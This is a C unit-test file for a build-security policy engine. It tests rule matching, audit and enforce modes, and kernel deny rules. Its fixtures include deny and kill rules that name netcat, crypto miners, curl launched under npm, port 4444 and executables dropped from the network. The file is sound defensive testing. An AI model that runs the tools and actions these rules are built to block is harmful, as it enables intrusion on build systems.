// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Policy engine: every condition and operator, audit vs enforce, deny-rule
 * acceptance and rejection, every kind of policy error with its position,
 * rules on connect, dns, file and privilege events with the egress
 * allowlist, and the default policy against ordinary builds and known
 * attacks.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <json-c/json.h>

#include "lib/record_names.h"
#include "policy/policy.h"

/* ---- helpers ---- */

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define ANC(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define NO_ANC ((const char *const *)NULL)

struct fx {
	struct bw_exec_info e;
	const char *argv[128];
	const char *anc[BW_ANCESTRY_MAX];
};

/* An exec: exe, argv and ancestors (nearest first), NULL-terminated lists. */
static struct bw_exec_info *fx_set(struct fx *f, const char *exe,
				   const char *const *argv,
				   const char *const *anc)
{
	uint32_t n = 0;

	memset(f, 0, sizeof(*f));
	for (; argv && argv[n]; n++)
		f->argv[n] = argv[n];
	f->e.pid = 4242;
	f->e.exe = exe;
	f->e.filename = exe;
	f->e.cwd = "/home/ci/src/project";
	f->e.argv = (char *const *)f->argv;
	f->e.argc_present = n;
	f->e.argc = n;
	f->e.uid = 1000;
	f->e.euid = 1000;
	for (n = 0; anc && anc[n]; n++)
		f->anc[n] = anc[n];
	f->e.ancestors = f->anc;
	f->e.n_ancestors = n;
	return &f->e;
}

static struct bw_policy *load_ok(const char *yaml)
{
	struct bw_policy *p = NULL;
	char *errs = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&errs, &len);
	int err;

	assert_non_null(f);
	err = policy_load_buffer("t.yaml", yaml, strlen(yaml), &p, f);
	fclose(f);
	if (err)
		fail_msg("policy failed to load (%d):\n%s", err, errs);
	free(errs);
	assert_non_null(p);
	return p;
}

/* Loads a policy that must fail; returns its error text (caller frees). */
static char *load_err(const char *yaml)
{
	struct bw_policy *p = (struct bw_policy *)1;
	char *errs = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&errs, &len);
	int err;

	assert_non_null(f);
	err = policy_load_buffer("t.yaml", yaml, strlen(yaml), &p, f);
	fclose(f);
	assert_int_equal(err, -EINVAL);
	assert_null(p); /* never an empty policy */
	return errs;
}

static void expect_contains(const char *hay, const char *needle)
{
	if (!strstr(hay, needle))
		fail_msg("expected \"%s\" in:\n%s", needle, hay);
}

/* One error line, "t.yaml:L:C: error: ...", containing what. */
static void expect_error(const char *errs, const char *pos, const char *what)
{
	char prefix[64];
	const char *line;

	snprintf(prefix, sizeof(prefix), "t.yaml:%s: error: ", pos);
	for (line = errs; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
		const char *end = strchr(line, '\n');
		size_t n = end ? (size_t)(end - line) : strlen(line);
		char buf[1024];

		snprintf(buf, sizeof(buf), "%.*s", (int)n, line);
		if (!strncmp(buf, prefix, strlen(prefix)) && strstr(buf, what))
			return;
	}
	fail_msg("expected an error at %s containing \"%s\" in:\n%s", pos, what, errs);
}

static int count_lines(const char *s)
{
	int n = 0;

	for (; *s; s++)
		n += *s == '\n';
	return n;
}

static void expect_load_error(const char *yaml, const char *pos, const char *what)
{
	char *errs = load_err(yaml);

	expect_error(errs, pos, what);
	free(errs);
}

static bool matches(const struct bw_policy *p, const struct bw_exec_info *e,
		    const char *rule)
{
	const struct bw_rule *out[64];
	size_t n = policy_match(p, e, out, 64);

	for (size_t i = 0; i < n && i < 64; i++)
		if (!strcmp(policy_rule_name(out[i]), rule))
			return true;
	return false;
}

/* Single-rule policies: "r" with the given match mapping (flow style). */
static struct bw_policy *rule_with(const char *match)
{
	char yaml[4096];

	snprintf(yaml, sizeof(yaml),
		 "rules:\n  - name: r\n    action: alert\n    match: %s\n", match);
	return load_ok(yaml);
}

static bool hit(const char *match, const struct bw_exec_info *e)
{
	struct bw_policy *p = rule_with(match);
	bool m = matches(p, e, "r");

	policy_free(p);
	return m;
}

/* ---- string operators ---- */

static void test_string_operators(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/curl", ARGV("curl"), NO_ANC);

	assert_true(hit("{exe: /usr/bin/curl}", e));
	assert_false(hit("{exe: /usr/bin/cur}", e));
	assert_true(hit("{exe: {exact: /usr/bin/curl}}", e));
	assert_true(hit("{exe: {prefix: /usr/}}", e));
	assert_false(hit("{exe: {prefix: /tmp/}}", e));
	assert_true(hit("{exe: {suffix: /curl}}", e));
	assert_false(hit("{exe: {suffix: /wget}}", e));
	assert_true(hit("{exe: {glob: '/usr/*/c?rl'}}", e));
	assert_true(hit("{exe: {glob: '/*l'}}", e)); /* '*' crosses '/' */
	assert_false(hit("{exe: {glob: '/bin/*'}}", e));
	assert_true(hit("{exe: {regex: '^/usr/(s)?bin/(curl|wget)$'}}", e));
	assert_false(hit("{exe: {regex: '^/bin/'}}", e));
	/* not, lists, and mappings of several operators (all must hold) */
	assert_true(hit("{basename: {not: wget}}", e));
	assert_false(hit("{basename: {not: curl}}", e));
	assert_true(hit("{basename: [wget, curl]}", e));
	assert_false(hit("{basename: [wget, fetch]}", e));
	/* a list of names (one loop): same first byte, a prefix of it, longer, last */
	assert_true(hit("{basename: [cur, curlx, cat, curl]}", e));
	assert_false(hit("{basename: [cur, curlx, c, '', Curl]}", e));
	assert_true(hit("{basename: {any: [cat, curl]}}", e));
	assert_false(hit("{basename: {all: [curl, cat]}}", e));
	assert_true(hit("{basename: {not: {any: [sh, bash]}}}", e));
	assert_false(hit("{basename: {not: [sh, curl]}}", e));
	assert_true(hit("{exe: {prefix: [/opt/, /usr/bin/]}}", e));
	assert_true(hit("{exe: [/bin/x, {suffix: curl}]}", e));
	assert_true(hit("{exe: {prefix: /usr/, suffix: curl}}", e));
	assert_false(hit("{exe: {prefix: /usr/, suffix: wget}}", e));
	assert_true(hit("{exe: {all: [{prefix: /usr/}, {not: {glob: '*/sbin/*'}}]}}", e));
	assert_true(hit("{exe: {any: [/nope, {regex: url$}]}}", e));
}

static void test_exe_filename_basename(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/python3.11", ARGV("python3"), NO_ANC);

	f.e.filename = "/usr/bin/python3"; /* a symlink, as passed */
	assert_true(hit("{exe: /usr/bin/python3.11}", e));
	assert_false(hit("{exe: /usr/bin/python3}", e));
	assert_true(hit("{filename: /usr/bin/python3}", e));
	assert_true(hit("{basename: python3.11}", e));
	assert_false(hit("{basename: python3}", e));
	/* No resolved exe: exe and basename fall back to the filename. */
	f.e.exe = "";
	f.e.filename = "./configure";
	assert_true(hit("{exe: ./configure}", e));
	assert_true(hit("{basename: configure}", e));
}

/* ---- argv, argN, cmdline, argc ---- */

static void test_argv_conditions(void **state)
{
	struct fx f;
	struct bw_exec_info *e =
		fx_set(&f, "/usr/bin/bash", ARGV("bash", "-c", "echo hi | tr a b"), NO_ANC);

	assert_true(hit("{argv: -c}", e));
	assert_true(hit("{argv: bash}", e)); /* argv[0] is an argument too */
	assert_false(hit("{argv: -x}", e));
	assert_true(hit("{argv: {glob: '*|*'}}", e));
	assert_true(hit("{arg0: bash}", e));
	assert_true(hit("{arg1: -c}", e));
	assert_false(hit("{arg2: -c}", e));
	assert_true(hit("{arg2: {prefix: echo}}", e));
	assert_false(hit("{arg3: {not: x}}", e)); /* absent: never matches */
	assert_true(hit("{cmdline: 'bash -c echo hi | tr a b'}", e));
	assert_true(hit("{cmdline: {regex: '^bash -c .*[|]'}}", e));
	assert_false(hit("{cmdline: {regex: '  '}}", e)); /* single spaces */
	assert_true(hit("{argc: 3}", e));
	assert_true(hit("{argc: {gt: 2}}", e));
	assert_false(hit("{argc: {gt: 3}}", e));
	assert_true(hit("{argc: {ge: 3, le: 3}}", e));
	assert_true(hit("{argc: {lt: 4}}", e));
	assert_false(hit("{argc: {lt: 3}}", e));
	assert_true(hit("{argc: {ne: 2}}", e));
	assert_true(hit("{argc: [1, 3]}", e));
	assert_true(hit("{argc: {not: {eq: 1}}}", e));
	/* argc is the kernel's count, even when argv was cut short */
	f.e.argc = 5000;
	f.e.argv_truncated = true;
	assert_true(hit("{argc: {gt: 4096}}", e));
	/* No argv at all */
	f.e.argc_present = 0;
	f.e.argc = 0;
	assert_false(hit("{argv: {glob: '*'}}", e));
	assert_true(hit("{cmdline: ''}", e));
	assert_true(hit("{argc: 0}", e));
}

static void test_cmdline_truncation(void **state)
{
	static char big[20000];
	struct fx f;
	struct bw_exec_info *e;

	memset(big, 'a', sizeof(big) - 1);
	e = fx_set(&f, "/bin/sh", ARGV("sh", "-c", big), NO_ANC);
	assert_true(hit("{cmdline: {prefix: 'sh -c aaa'}}", e));
	assert_false(hit("{cmdline: {suffix: 'aaa end'}}", e));
}

/* ---- cwd, uid, euid ---- */

static void test_cwd_uid_euid(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/id", ARGV("id"), NO_ANC);

	f.e.uid = 1000;
	f.e.euid = 0;
	assert_true(hit("{cwd: {prefix: /home/ci/}}", e));
	assert_false(hit("{cwd: /tmp}", e));
	assert_true(hit("{uid: 1000}", e));
	assert_true(hit("{uid: {ge: 1000}, euid: 0}", e));
	assert_false(hit("{euid: {gt: 0}}", e));
	assert_true(hit("{uid: {ne: 0}, euid: {eq: 0}}", e)); /* a setuid exec */
	assert_false(hit("{uid: 4294967295}", e));
	f.e.cwd = "";
	assert_true(hit("{cwd: ''}", e));
}

/* ---- parent and ancestor ---- */

static void test_parent_ancestor(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(
		&f, "/usr/bin/curl", ARGV("curl", "-fsSL", "https://x"),
		ANC("/usr/bin/dash", "/usr/bin/node", "/usr/bin/bash", "/usr/bin/make"));

	assert_true(hit("{parent: {basename: dash}}", e));
	assert_true(hit("{parent: {exe: /usr/bin/dash}}", e));
	assert_false(hit("{parent: {basename: node}}", e));
	assert_true(hit("{parent: {exe: {prefix: /usr/}, basename: [sh, dash]}}", e));
	assert_false(hit("{parent: {exe: {prefix: /opt/}, basename: dash}}", e));
	assert_true(hit("{ancestor: {basename: node}}", e));
	assert_true(hit("{ancestor: {basename: [npm, node], depth: 2}}", e));
	assert_false(hit("{ancestor: {basename: node, depth: 1}}", e));
	assert_true(hit("{ancestor: {basename: make, depth: 4}}", e));
	assert_false(hit("{ancestor: {basename: make, depth: 3}}", e));
	assert_false(hit("{ancestor: {basename: pip}}", e));
	/* exe and basename must hold for the same ancestor */
	assert_false(hit("{ancestor: {exe: /usr/bin/make, basename: node}}", e));
	/* "curl whose ancestors include npm or pip" */
	assert_true(hit("{basename: curl, ancestor: {basename: [npm, pip, node], depth: 8}}", e));
	/* npm is a script: its exe is node, its filename /usr/bin/npm */
	{
		const char *files[] = { "/bin/sh", "/usr/bin/npm", "/bin/bash", "/usr/bin/make" };

		e->ancestor_filenames = files;
		assert_true(hit("{basename: curl, ancestor: {filename: {suffix: [/npm, /pip]}}}", e));
		assert_true(hit("{ancestor: {basename: node, filename: {suffix: /npm}}}", e));
		assert_false(hit("{ancestor: {basename: bash, filename: {suffix: /npm}}}", e));
		assert_false(hit("{parent: {filename: /usr/bin/npm}}", e));
		e->ancestor_filenames = NULL;
		assert_false(hit("{ancestor: {filename: /usr/bin/npm}}", e));
	}
	/* a job root has no ancestors */
	fx_set(&f, "/usr/bin/make", ARGV("make"), NO_ANC);
	assert_false(hit("{parent: {basename: {not: x}}}", e));
	assert_false(hit("{ancestor: {basename: {glob: '*'}}}", e));
}

/* ---- match-level not / any ---- */

static void test_group_not_any(void **state)
{
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/tmp/tool", ARGV("tool", "--x"),
					ANC("/usr/bin/bash", "/usr/bin/make"));

	assert_true(hit("{exe: {prefix: /tmp/}, not: {ancestor: {basename: make}, argv: --y}}", e));
	assert_false(hit("{exe: {prefix: /tmp/}, not: {ancestor: {basename: make}}}", e));
	assert_true(hit("{any: [{basename: nope}, {argv: --x, uid: 1000}]}", e));
	assert_false(hit("{any: [{basename: nope}, {argv: --x, uid: 0}]}", e));
	assert_true(hit("{any: [{not: {basename: tool}}, {parent: {basename: bash}}]}", e));
}

/* ---- several rules, order, counting ---- */

static void test_match_order_and_count(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - {name: first, action: log, match: {basename: cc}}\n"
		"  - {name: never, action: log, match: {basename: ld}}\n"
		"  - {name: second, action: alert, match: {exe: {prefix: /usr/}}}\n"
		"  - {name: third, action: alert, match: {argc: 1}}\n");
	const struct bw_rule *out[2];
	struct fx f;
	struct bw_exec_info *e = fx_set(&f, "/usr/bin/cc", ARGV("cc"), NO_ANC);

	assert_int_equal(policy_rule_count(p), 4);
	assert_int_equal(policy_match(p, e, out, 2), 3);
	assert_string_equal(policy_rule_name(out[0]), "first");
	assert_string_equal(policy_rule_name(out[1]), "second");
	assert_int_equal(policy_rule_index(out[1]), 2);
	assert_int_equal(policy_match(p, e, NULL, 0), 3);
	assert_int_equal(policy_rule_line(policy_rule(p, 3)), 5);
	assert_null(policy_rule(p, 4));
	policy_free(p);
}

/* ---- rule fields, audit vs enforce ---- */

static const char *const actions_yaml =
	"rules:\n"
	"  - {name: a-log, action: log, severity: info, match: {basename: x}}\n"
	"  - {name: a-alert, action: alert, severity: low, match: {basename: x}}\n"
	"  - {name: a-killp, action: kill-process, severity: high, match: {basename: x}}\n"
	"  - {name: a-killj, action: kill-job, severity: critical, match: {basename: x}}\n"
	"  - {name: a-deny, action: deny, match: {basename: x}, description: no x}\n";

static void check_actions(const char *mode, bool audit)
{
	char yaml[2048];
	struct bw_policy *p;
	static const enum policy_action written[] = {
		POLICY_ACT_LOG, POLICY_ACT_ALERT, POLICY_ACT_KILL_PROCESS,
		POLICY_ACT_KILL_JOB, POLICY_ACT_DENY,
	};

	snprintf(yaml, sizeof(yaml), "%s%s", mode, actions_yaml);
	p = load_ok(yaml);
	assert_int_equal(policy_mode(p), audit ? POLICY_MODE_AUDIT : POLICY_MODE_ENFORCE);
	for (size_t i = 0; i < 5; i++) {
		const struct bw_rule *r = policy_rule(p, i);
		enum policy_action eff = audit && i >= 2 ? POLICY_ACT_ALERT : written[i];

		assert_int_equal(policy_rule_action(r), written[i]);
		assert_int_equal(policy_rule_effective_action(r), eff);
		assert_int_equal(policy_rule_in_kernel(r), !audit && i == 4);
	}
	assert_int_equal(policy_rule_severity(policy_rule(p, 3)), POLICY_SEV_CRITICAL);
	assert_int_equal(policy_rule_severity(policy_rule(p, 4)), POLICY_SEV_MEDIUM);
	assert_string_equal(policy_rule_description(policy_rule(p, 4)), "no x");
	assert_string_equal(policy_rule_description(policy_rule(p, 0)), "");
	policy_free(p);
}

static void test_audit_vs_enforce(void **state)
{
	size_t n;
	struct bw_policy *p;

	check_actions("", false); /* enforce is the default */
	check_actions("mode: enforce\n", false);
	check_actions("mode: audit\n", true);
	/* audit installs nothing in the kernel */
	p = load_ok("mode: audit\nrules:\n  - {name: d, action: deny, match: {basename: x}}\n");
	assert_null(policy_deny_rules(p, &n));
	assert_int_equal(n, 0);
	policy_free(p);
}

static void test_names(void **state)
{
	assert_string_equal(policy_action_name(POLICY_ACT_KILL_JOB), "kill-job");
	assert_string_equal(policy_action_name(POLICY_ACT_DENY), "deny");
	assert_string_equal(policy_severity_name(POLICY_SEV_HIGH), "high");
	assert_string_equal(policy_mode_name(POLICY_MODE_AUDIT), "audit");
	assert_string_equal(policy_deny_kind_name(POLICY_DENY_DIR), "dir");
	assert_string_equal(policy_action_name((enum policy_action)99), "?");
}

/* ---- wake keys: the exes rules that kill at exec can match ---- */

/* The keys of yaml's policy, joined by ' ' into buf; the return of policy_exec_wake_keys. */
static int wake_keys_of(const char *yaml, char *buf, size_t size)
{
	struct bw_policy *p = load_ok(yaml);
	struct policy_keys k = { 0 };
	size_t pos = 0;
	int ok = policy_exec_wake_keys(p, &k);

	buf[0] = '\0';
	for (size_t i = 0; i < k.n && pos < size; i++)
		pos += (size_t)snprintf(buf + pos, size - pos, "%s%s", i ? " " : "", k.v[i]);
	policy_keys_free(&k);
	policy_free(p);
	return ok;
}

static void test_exec_wake_keys(void **state)
{
	char keys[512];

	(void)state;
	/* Exact paths, directories and basenames, each once; alerts and deny rules name none. */
	assert_int_equal(wake_keys_of(
		"rules:\n"
		"  - {name: a, action: kill-process, match: {exe: [/usr/bin/nc, {prefix: /tmp/x/}]}}\n"
		"  - {name: b, action: kill-job, match: {uid: 0, basename: [nc, curl]}}\n"
		"  - {name: c, action: kill-process, match: {basename: curl, argv: {regex: x}}}\n"
		"  - {name: d, action: alert, match: {argv: {regex: y}}}\n"
		"  - {name: e, action: deny, match: {basename: minerd}}\n",
		keys, sizeof(keys)), 1);
	assert_string_equal(keys, "/usr/bin/nc /tmp/x/ nc curl");
	/* Nothing kills at exec: no key, and none needed. */
	assert_int_equal(wake_keys_of("rules:\n  - {name: a, action: alert, match: {basename: x}}\n",
				      keys, sizeof(keys)), 1);
	assert_string_equal(keys, "");
	/* Kills on other records name no exe, and need none. */
	assert_int_equal(wake_keys_of("rules:\n  - {name: a, on: connect, action: kill-process, "
				      "match: {port: 4444}}\n", keys, sizeof(keys)), 1);
	/* Audit mode kills nothing. */
	assert_int_equal(wake_keys_of("mode: audit\nrules:\n  - {name: a, action: kill-process, "
				      "match: {argv: {regex: x}}}\n", keys, sizeof(keys)), 1);
	/* A killing rule that could match any exe: no filter. */
	static const char *const unkeyed[] = {
		"{argv: {regex: x}}",                   /* no exe or basename */
		"{exe: {regex: '^/tmp/'}}",             /* a regex */
		"{exe: {prefix: /tmp/x}}",              /* a prefix that is no directory */
		"{exe: {prefix: /}}",                   /* every exe */
		"{basename: {prefix: py}}",             /* a basename prefix */
		"{exe: relative/nc}",                   /* never a resolved exe */
		"{not: {basename: sh}}",                /* a negation */
		"{basename: nc, stdin: network}",        /* judged again later */
	};
	for (size_t i = 0; i < sizeof(unkeyed) / sizeof(unkeyed[0]); i++) {
		char yaml[512];

		snprintf(yaml, sizeof(yaml), "rules:\n  - {name: k, action: kill-process, "
			 "match: {basename: nc}}\n  - {name: u, action: kill-process, match: %s}\n",
			 unkeyed[i]);
		if (wake_keys_of(yaml, keys, sizeof(keys)) != 0)
			fail_msg("rule match %s gave wake keys '%s'", unkeyed[i], keys);
	}
}

/* ---- deny rules ---- */

static void test_deny_accepted(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - name: by-path\n"
		"    action: deny\n"
		"    match: {exe: [/usr/bin/nc, /bin/nc.openbsd]}\n"
		"  - name: by-dir\n"
		"    action: deny\n"
		"    match: {exe: {prefix: [/dev/shm/, /tmp/evil/]}}\n"
		"  - name: log-only\n"
		"    action: log\n"
		"    match: {cmdline: {regex: x}}\n"
		"  - name: by-name-under-npm\n"
		"    action: deny\n"
		"    match:\n"
		"      basename: [xmrig, {exact: minerd}]\n"
		"      ancestor: {basename: [npm, yarn]}\n"
		"  - name: by-name-parent\n"
		"    action: deny\n"
		"    match: {basename: curl, parent: {basename: node}}\n");
	size_t n;
	const struct policy_deny_rule *d = policy_deny_rules(p, &n);
	struct fx f;

	assert_int_equal(n, 4);
	assert_int_equal(d[0].kind, POLICY_DENY_PATH);
	assert_int_equal(d[0].rule_index, 0);
	assert_int_equal(d[0].n_values, 2);
	assert_string_equal(d[0].values[1], "/bin/nc.openbsd");
	assert_int_equal(d[0].ancestor_depth, 0);
	assert_null(d[0].ancestor_basenames);
	assert_int_equal(d[1].kind, POLICY_DENY_DIR);
	assert_string_equal(d[1].values[0], "/dev/shm/");
	assert_int_equal(d[2].kind, POLICY_DENY_BASENAME);
	assert_int_equal(d[2].rule_index, 3);
	assert_string_equal(d[2].rule_name, "by-name-under-npm");
	assert_int_equal(d[2].n_values, 2);
	assert_string_equal(d[2].values[1], "minerd");
	assert_int_equal(d[2].n_ancestor_basenames, 2);
	assert_string_equal(d[2].ancestor_basenames[1], "yarn");
	assert_int_equal(d[2].ancestor_depth, BW_ANCESTRY_MAX);
	assert_int_equal(d[3].ancestor_depth, 1);
	assert_true(policy_rule_in_kernel(policy_rule(p, 0)));
	assert_false(policy_rule_in_kernel(policy_rule(p, 2)));
	/* userspace matching agrees with the kernel keys */
	assert_true(matches(p, fx_set(&f, "/dev/shm/a/b", ARGV("b"), NO_ANC), "by-dir"));
	assert_true(matches(p, fx_set(&f, "/x/xmrig", ARGV("xmrig"),
				      ANC("/bin/sh", "/usr/bin/npm")), "by-name-under-npm"));
	assert_false(matches(p, fx_set(&f, "/x/xmrig", ARGV("xmrig"),
				       ANC("/bin/sh", "/usr/bin/make")), "by-name-under-npm"));
	policy_free(p);
}

static const char *const deny_head = "rules:\n  - name: d\n    action: deny\n    match:\n";

static void expect_deny_error(const char *match, const char *pos, const char *what)
{
	char yaml[2048];

	snprintf(yaml, sizeof(yaml), "%s%s", deny_head, match);
	expect_load_error(yaml, pos, what);
}

/* Deny rules on facts the kernel learns as the job runs. */
static void test_deny_dynamic(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - name: dropped\n"
		"    action: deny\n"
		"    match: {exe_origin: [network, decoder]}\n"
		"  - name: fileless\n"
		"    action: deny\n"
		"    match: {fileless: true}\n");
	struct bw_exec_info e = { .filename = "/tmp/x", .exe = "/tmp/x", .cwd = "" };
	size_t n;
	const struct policy_deny_rule *d = policy_deny_rules(p, &n);

	assert_int_equal(n, 2);
	assert_int_equal(d[0].kind, POLICY_DENY_DROPPED);
	assert_int_equal(d[0].n_values, 0);
	assert_int_equal(d[1].kind, POLICY_DENY_FILELESS);
	/* the engine asks the rule about each dropped file */
	e.exe_prov = BW_PROV_WRITTEN | BW_PROV_NETWORK;
	assert_true(policy_rule_matches(policy_rule(p, 0), &e));
	e.exe_prov = BW_PROV_WRITTEN | BW_PROV_PACKAGE_MANAGER;
	assert_false(policy_rule_matches(policy_rule(p, 0), &e));
	policy_free(p);
	expect_load_error("rules:\n  - {name: a, action: deny, match: {fileless: false}}\n",
			  "2:37", "the kernel can deny 'fileless: true' only");
	expect_load_error("rules:\n  - {name: a, action: deny, match: {exe_origin: network, argc: 1}}\n",
			  "2:37", "condition 'exe_origin' cannot be evaluated in the kernel");
}

static void test_deny_rejected(void **state)
{
	/* line 5 holds the first condition, at column 7 */
	expect_deny_error("      cmdline: {regex: x}\n", "5:7",
			  "deny rule 'd': condition 'cmdline' cannot be evaluated in the kernel");
	expect_deny_error("      basename: x\n      argv: -e\n", "6:7",
			  "condition 'argv' cannot be evaluated in the kernel");
	expect_deny_error("      exe: {glob: '/tmp/*'}\n", "5:19",
			  "operator 'glob' on exe cannot be evaluated in the kernel");
	expect_deny_error("      exe: {regex: x}\n", "5:20", "operator 'regex' on exe");
	expect_deny_error("      basename: {prefix: x}\n", "5:26",
			  "operator 'prefix' on basename cannot be evaluated");
	expect_deny_error("      basename: {not: x}\n", "5:18", "'not' on basename");
	expect_deny_error("      exe: {prefix: /usr/lo}\n", "5:21", "must end in '/'");
	expect_deny_error("      exe: {prefix: /}\n", "5:21", "would deny every program");
	expect_deny_error("      exe: bin/nc\n", "5:12", "is not an absolute path");
	expect_deny_error("      exe: [/usr/bin/nc, {prefix: /tmp/}]\n", "5:35",
			  "mixes exact paths and directory prefixes");
	expect_deny_error("      basename: a/b\n", "5:17", "is not a file name");
	expect_deny_error("      exe: /bin/nc\n      basename: nc\n", "6:7",
			  "use one of 'exe' or 'basename', not both");
	expect_deny_error("      parent: {basename: npm}\n", "2:5",
			  "deny rule 'd' needs 'exe' or 'basename'");
	expect_deny_error("      basename: nc\n      parent: {exe: /usr/bin/npm}\n", "6:21",
			  "parent exe cannot be evaluated in the kernel");
	expect_deny_error("      basename: nc\n      parent: {filename: /usr/bin/npm}\n", "6:26",
			  "parent filename cannot be evaluated in the kernel");
	expect_deny_error("      basename: nc\n      ancestor: {basename: npm, depth: 3}\n", "6:7",
			  "ancestor depth 3 cannot be evaluated in the kernel");
	expect_deny_error("      exe: /xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", "5:12",
			  "longer than the kernel's deny key");
	expect_deny_error("      exe: {prefix: /a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/}\n", "5:21",
			  "deeper than the kernel's directory limit");
	expect_deny_error("      basename: nc\n      ancestor: {basename: {glob: 'np*'}}\n",
			  "6:35", "operator 'glob' on ancestor basename");
	expect_deny_error("      basename: nc\n      parent: {basename: a}\n"
			  "      ancestor: {basename: b}\n", "7:7",
			  "use one of 'parent' or 'ancestor'");
	expect_deny_error("      basename: nc\n      not: {uid: 0}\n", "6:7",
			  "condition 'not' cannot be evaluated");
	expect_deny_error("      filename: /bin/nc\n", "5:7", "condition 'filename'");
}

/* ---- policy errors ---- */

static void test_error_unknown_keys(void **state)
{
	expect_load_error("verison: 1\nrules: []\n", "1:1",
			  "unknown top-level key 'verison'; valid keys: version, mode, leftovers, rules");
	expect_load_error("rules:\n  - name: a\n    action: log\n    bogus: 1\n"
			  "    match: {exe: x}\n", "4:5",
			  "unknown key 'bogus' in rule; valid keys: name, description, "
			  "severity, action, on, match, allow");
	expect_load_error("rules:\n  - name: a\n    action: log\n    match:\n"
			  "      bsename: curl\n", "5:7",
			  "unknown condition 'bsename'; valid: exe, filename, basename");
	expect_load_error("rules:\n  - {name: a, action: log, match: {exe: {prefx: /}}}\n",
			  "2:42", "unknown operator 'prefx'; valid: exact, prefix, suffix, "
			  "glob, regex, not, any, all");
	expect_load_error("rules:\n  - {name: a, action: log, match: {uid: {prefix: 1}}}\n",
			  "2:42", "unknown operator 'prefix'; valid: eq, ne, lt, le, gt, ge");
	expect_load_error("rules:\n  - {name: a, action: log, match: {parent: {depth: 2, basename: x}}}\n",
			  "2:45", "unknown key 'depth' in 'parent'; valid keys: exe, basename");
	expect_load_error("rules:\n  - {name: a, action: log, match: {arg4096: x}}\n",
			  "2:36", "argument index in 'arg4096' is above 4095");
	expect_load_error("rules:\n  - {name: a, action: log, match: {argx: x}}\n",
			  "2:36", "unknown condition 'argx'");
}

/*
 * A policy from the repository must not spend the agent's memory or time
 * compiling: PCRE2 refuses what would not fit its compiled form (nested
 * repetitions of groups multiply) at once, and the policy's total is
 * capped (tests/unit/test_policy_regex.c).
 */
static void test_regex_size_limits(void **state)
{
	static const char *const ok[] = { "a{19999}", "x{2,}[[:alpha:]]{3}(a|b){5}",
					  "[]{]{100}", "\\{1000000\\}", "((a|b){10}c){100}",
					  "(x{200}|y){101}", "[abc]{20000}" };
	/* and where PCRE2 stops: the end of the outermost repetition */
	static const struct { const char *re, *pos; } big[] = {
		{ "((a{1000}){1000}){100}", "2:76" },
		{ "(a{30000}){30000}", "2:71" },
		{ "(?:[a-z]{2}x){3000}", "2:73" },
	};
	char yaml[4096];
	struct bw_policy *p;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
		snprintf(yaml, sizeof(yaml),
			 "rules:\n  - {name: a, action: log, match: {cmdline: {regex: '%s'}}}\n", ok[i]);
		p = load_ok(yaml);
		policy_free(p);
	}
	for (i = 0; i < sizeof(big) / sizeof(big[0]); i++) {
		snprintf(yaml, sizeof(yaml),
			 "rules:\n  - {name: a, action: log, match: {cmdline: {regex: '%s'}}}\n", big[i].re);
		expect_load_error(yaml, big[i].pos, "regular expression is too large");
	}
}

static void test_error_values(void **state)
{
	expect_load_error("rules:\n  - {name: a, action: log, match: {cmdline: {regex: 'a(b'}}}\n",
			  "2:57", "bad regex 'a(b': missing closing parenthesis");
	expect_load_error("rules:\n  - {name: a, action: kill, match: {exe: x}}\n",
			  "2:23", "unknown action 'kill'; valid: log, alert, kill-process, "
			  "kill-job, deny");
	expect_load_error("rules:\n  - {name: a, action: log, severity: urgent, match: {exe: x}}\n",
			  "2:38", "unknown severity 'urgent'; valid: info, low, medium, high, critical");
	expect_load_error("mode: observe\nrules:\n  - {name: a, action: log, match: {exe: x}}\n",
			  "1:7", "unknown mode 'observe'; valid: enforce, audit");
	expect_load_error("version: 2\nrules:\n  - {name: a, action: log, match: {exe: x}}\n",
			  "1:10", "unsupported policy version 2");
	expect_load_error("rules:\n  - {name: a, action: log, match: {argc: {gt: many}}}\n",
			  "2:47", "expected an integer from 0 to 4294967295, got 'many'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {uid: -1}}\n",
			  "2:41", "expected an integer");
	expect_load_error("rules:\n  - {name: a, action: log, match: {ancestor: {basename: x, depth: 0}}}\n",
			  "2:67", "expected an integer from 1 to 64, got '0'");
	expect_load_error("rules:\n  - {name: a, action: log, match: {basename: []}}\n",
			  "2:46", "empty list");
	/* a bad item among good ones: reported, and nothing leaks */
	expect_load_error("rules:\n  - {name: a, action: log, match: {basename: [{bad: x}, "
			  "curl, {regex: '('}, {prefix: [a, '', b]}]}}\n",
			  "2:48", "unknown operator 'bad'");
	/* deny limits hold in audit mode too, so switching modes never breaks */
	expect_load_error("mode: audit\nrules:\n  - {name: a, action: deny, match: {argv: x}}\n",
			  "3:37", "condition 'argv' cannot be evaluated in the kernel");
}

